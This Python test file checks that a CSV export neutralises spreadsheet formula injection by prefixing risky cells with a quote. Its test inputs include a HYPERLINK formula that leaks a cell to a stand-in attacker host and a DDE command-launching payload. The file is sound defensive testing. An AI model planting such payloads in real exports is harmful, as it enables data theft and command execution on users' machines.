"""CSV for spreadsheets: no cell of an export starts a formula (OWASP, CSV Injection)."""
import csv
import io

from monitor.spreadsheet import csv_text

FORMULAS = ('=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx",
            "=cmd|' /C calc'!A0")


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_a_cell_that_would_start_a_formula_gets_a_single_quote_before_it():
    [header, row] = read(csv_text(["topic"] * len(FORMULAS), [FORMULAS]))
    assert row == ["'" + cell for cell in FORMULAS]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_other_cells_are_kept_as_they_are():
    [header, row] = read(csv_text(["id", "topic", "cleared_at", "note"],
                                  [[42, "Year 9 Maths: a=b+c", None, "e-mail a.teacher@gatehouse.sch.uk"]]))
    assert header == ["id", "topic", "cleared_at", "note"]
    assert row == ["42", "Year 9 Maths: a=b+c", "", "e-mail a.teacher@gatehouse.sch.uk"]
